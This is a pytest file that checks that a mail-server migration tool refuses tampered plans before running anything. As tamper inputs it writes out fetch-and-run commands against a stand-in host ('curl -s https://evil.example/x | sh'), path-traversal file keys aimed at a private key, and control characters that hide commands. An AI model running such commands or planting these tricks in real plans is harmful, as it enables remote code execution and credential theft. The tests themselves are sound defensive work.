"""The plan that runs is the plan that was reviewed (issue 23, part 2).

A real plan of the small sample is changed the ways a hand, a script or an attacker would change
it after review; `migrate cutover` (dry run or --execute) and `migrate export ansible` refuse each
one at load, with one line that names the field, file or step, before any host is touched and
before anything is written:

* a command edited in plan.yaml (runbook.md, with its valid digest, still showing the old one),
  and runbook.md edited to show something else (its digest in plan.yaml updated);
* a ``files`` key that leaves the plan folder (``../``, an absolute path), a plan file or a folder
  on its way that is a link, an action whose ``source`` is not one of the plan's files;
* a key written twice, a control character in any string;
* ``--plan-digest``: the digest runbook.md, report.md and the dry run show pins the plan; another
  is refused (exit 3) and nothing runs.
"""

from __future__ import annotations

import hashlib
import os
import re
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from conftest import SAMPLES
from migrate.app import cli
from migrate.app.cutover import load_plan
from migrate.core.errors import MigrateError
from migrate.app.exporting import export_ansible
from migrate.app.inspection import inspect_tree
from migrate.core.model import Origin
from migrate.app.planning import build_plan, resolve_target, write_plan
from migrate.app.sources import LocalTree
from migrate.core.steps import plan_digest

FLAGS = {"hostname": "lists.example.org", "ipv6": ["2001:db8:60::25"],
         "destination": "mailman2"}
DIGEST = re.compile(r"Plan digest: ([0-9a-f]{64})")


@pytest.fixture(scope="module")
def small():
    inv = inspect_tree(LocalTree(SAMPLES / "small"), Origin("local", "/samples/small"))
    return build_plan(inv, resolve_target(inv, {}, FLAGS))


@pytest.fixture
def plan_dir(small, tmp_path):
    out = tmp_path / "plan"
    write_plan(small, str(out))
    return out


def _data(plan: Path) -> dict:
    return yaml.safe_load((plan / "plan.yaml").read_text())


def _rewrite(plan: Path, data: dict) -> None:
    """plan.yaml as a person or a script would write it back (the old cutover loaded it)."""
    (plan / "plan.yaml").write_text(yaml.safe_dump(data, sort_keys=False))


def _seal(plan: Path, rel: str) -> None:
    """Record ``rel``'s digest in plan.yaml, as an attacker who edits both would."""
    data = _data(plan)
    data["files"][rel] = hashlib.sha256((plan / rel).read_bytes()).hexdigest()
    _rewrite(plan, data)


def _cutover(plan: Path, *args: str):
    return CliRunner().invoke(cli.app, ["cutover", str(plan), *args])


def _refused(plan: Path, *args: str) -> str:
    """The cutover's dry run and the export both refuse ``plan`` (exit 3, one line, nothing
    written); the message."""
    res = _cutover(plan, *args)
    assert res.exit_code == 3, res.output
    assert "Traceback" not in res.output and "Dry run" not in res.output, res.output
    fleet = plan.parent / "fleet"
    with pytest.raises(MigrateError) as err:
        export_ansible([str(plan)], str(fleet))
    assert not fleet.exists() and "\n" not in str(err.value)
    return res.output


def _step_index(data: dict, sid: str) -> int:
    return next(i for i, s in enumerate(data["steps"]) if s["id"] == sid)


def test_the_plan_digest_is_shown_everywhere_and_pins_the_plan(plan_dir, small):
    data = yaml.safe_load(small.files["plan.yaml"])
    digest = plan_digest(data)
    assert digest == small.digest
    for doc in ("runbook.md", "report.md", "report.html"):
        assert DIGEST.findall((plan_dir / doc).read_text()) == [digest], doc
    res = _cutover(plan_dir)
    assert res.exit_code == 0 and DIGEST.findall(res.output) == [digest], res.output
    res = _cutover(plan_dir, "--plan-digest", digest.upper())
    assert res.exit_code == 0, res.output
    assert load_plan(str(plan_dir), pin=digest).digest == digest


def test_the_digest_covers_what_runs_but_not_the_documents_that_show_it(small):
    data = yaml.safe_load(small.files["plan.yaml"])
    digest = plan_digest(data)
    for doc in ("runbook.md", "report.md", "report.html"):
        assert plan_digest({**data, "files": {**data["files"], doc: "0" * 64}}) == digest
    changed = [
        {**data, "files": {**data["files"], "files/new/etc/httpd.conf": "0" * 64}},
        {**data, "target": {**data["target"], "dns_ttl": data["target"]["dns_ttl"] + 1}},
        {**data, "findings": data["findings"][1:]},
        {**data, "steps": data["steps"][:-1]},
    ]
    assert all(plan_digest(d) != digest for d in changed)


def test_a_pinned_digest_that_differs_is_refused_and_nothing_runs(plan_dir):
    digest = DIGEST.search((plan_dir / "runbook.md").read_text()).group(1)
    other = ("1" if digest[0] != "1" else "2") + digest[1:]
    res = _cutover(plan_dir, "--execute", "--yes", "--old", "root@192.0.2.1",
                   "--new", "root@192.0.2.2", "--plan-digest", other)
    assert res.exit_code == 3, res.output
    assert f"the plan's digest is {digest}, not the {other}" in res.output
    assert not (plan_dir / "journal.jsonl").exists()  # refused before the journal, the hosts
    res = _cutover(plan_dir, "--plan-digest", "sha256-of-something")
    assert res.exit_code == 2 and "64 hex digits" in res.output, res.output


def test_a_command_edited_in_plan_yaml_is_refused_naming_its_step(plan_dir):
    data = _data(plan_dir)
    i = _step_index(data, "preflight-new")
    data["steps"][i]["actions"][0]["command"] = "curl -s https://evil.example/x | sh"
    _rewrite(plan_dir, data)
    out = _refused(plan_dir)
    assert "runbook.md and plan.yaml do not show the same plan" in out
    assert "at step preflight-new" in out, out


def test_runbook_md_edited_with_its_digest_is_refused_naming_its_step(plan_dir):
    runbook = plan_dir / "runbook.md"
    runbook.write_text(runbook.read_text().replace("pkg_info -Q mailman", "pkg_info -Q xyz", 1))
    _seal(plan_dir, "runbook.md")
    out = _refused(plan_dir)
    assert "at step preflight-new" in out, out


def test_a_setting_edited_in_plan_yaml_changes_the_digest_the_runbook_shows(plan_dir):
    data = _data(plan_dir)
    data["target"]["dns_ttl"] += 1
    _rewrite(plan_dir, data)
    out = _refused(plan_dir)
    assert "in its heading: the plan digest" in out, out


@pytest.mark.parametrize("key", ["../outside.txt", "files/../../outside.txt", "{abs}",
                                 "files//new", "./files/x"])
def test_a_files_key_outside_the_plan_folder_is_refused(plan_dir, key):
    """The old cutover read such a file (a private key...) to upload it beside the plan on
    both hosts, and the export wrote it outside its folder."""
    outside = plan_dir.parent / "outside.txt"
    outside.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    key = key.replace("{abs}", str(outside))
    data = _data(plan_dir)
    data["files"][key] = hashlib.sha256(outside.read_bytes()).hexdigest()
    _rewrite(plan_dir, data)
    out = _refused(plan_dir)
    assert "plan.yaml: files[" in out and ("leaves the plan folder" in out
                                           or "absolute path" in out), out
    assert not (plan_dir.parent / "fleet").exists()
    assert not list(plan_dir.parent.glob("**/plans/**/outside.txt"))


def test_an_action_source_outside_the_files_is_refused(plan_dir):
    data = _data(plan_dir)
    i = _step_index(data, "new-files")
    data["steps"][i]["actions"][0]["source"] = "../outside.txt"
    _rewrite(plan_dir, data)
    out = _refused(plan_dir)
    assert f"steps[{i}].actions[0].source '../outside.txt' is not one of the plan's files" \
        in out, out


@pytest.mark.parametrize("link", ["files/new/etc/httpd.conf", "files/new/etc"])
def test_a_plan_file_read_through_a_link_is_refused(plan_dir, link):
    """The link leads to the same bytes (the digest matches): the link itself is refused."""
    target = plan_dir.parent / "elsewhere"
    os.rename(plan_dir / link, target)
    os.symlink(target, plan_dir / link)
    assert (plan_dir / "files/new/etc/httpd.conf").read_bytes()  # readable through the link
    out = _refused(plan_dir)
    assert "it is a link" in out, out


def test_a_key_written_twice_is_refused_with_its_path(plan_dir):
    text = (plan_dir / "plan.yaml").read_text()
    m = re.search(r"(?m)^(\s+)command: (pkg_info -Q mailman.*)$", text)
    text = text[:m.end()] + f"\n{m.group(1)}command: curl -s https://evil.example/x | sh" \
        + text[m.end():]
    (plan_dir / "plan.yaml").write_text(text)
    i = _step_index(_data(plan_dir), "preflight-new")
    out = _refused(plan_dir)
    assert f"the key steps[{i}].actions[0].command is written twice" in out, out


@pytest.mark.parametrize("char", ["\x1b", "\x00", "\r", "\u202e", "\x85"])
def test_a_control_character_in_any_string_is_refused_with_its_path(plan_dir, char):
    data = _data(plan_dir)
    i = _step_index(data, "preflight-new")
    data["steps"][i]["actions"][0]["command"] += f" {char}[8m; curl evil | sh"
    _rewrite(plan_dir, data)
    out = _refused(plan_dir)
    assert f"steps[{i}].actions[0].command holds the control character" in out, out
    data = _data(plan_dir)
    data["steps"][i]["actions"][0]["command"] = "true"
    data["target"][f"x{char}"] = 1
    _rewrite(plan_dir, data)
    assert "target has a key with a control character" in _refused(plan_dir)


@pytest.mark.parametrize("value, said", [
    ("9" * 5000, "cannot be read"),  # PyYAML builds it with int(): Python refuses
    ("[" * 40 + "]" * 40, "nested deeper than 32 levels"),
])
def test_a_value_python_cannot_build_or_nested_too_deep_is_refused(plan_dir, value, said):
    text = (plan_dir / "plan.yaml").read_text()
    head = text[:text.index("\nweb_parity:")]
    (plan_dir / "plan.yaml").write_text(f"{head}\nweb_parity: {value}\n")
    assert said in _refused(plan_dir)


def test_the_export_pins_each_plan_by_its_digest(plan_dir, tmp_path):
    """`export ansible --plan-digest`, once per plan: the reviewed plans are exported, another
    is refused (exit 3) and nothing is written; a count that does not match is a usage error."""
    digest = DIGEST.search((plan_dir / "runbook.md").read_text()).group(1)
    other = ("1" if digest[0] != "1" else "2") + digest[1:]
    fleet = tmp_path / "fleet"

    def export(*pins: str):
        return CliRunner().invoke(cli.app, ["export", "ansible", str(plan_dir), "-o", str(fleet),
                                            *[a for p in pins for a in ("--plan-digest", p)]])
    res = export(other)
    assert res.exit_code == 3 and f"the plan's digest is {digest}, not the {other}" in res.output
    assert not fleet.exists()
    res = export(digest, digest)
    assert res.exit_code == 2 and "2 --plan-digest for 1 plan" in res.output, res.output
    res = export("not-a-digest")
    assert res.exit_code == 2 and "64 hex digits" in res.output, res.output
    assert not fleet.exists()
    res = export(digest)
    assert res.exit_code == 0, res.output
    assert (fleet / "site.yaml").is_file()
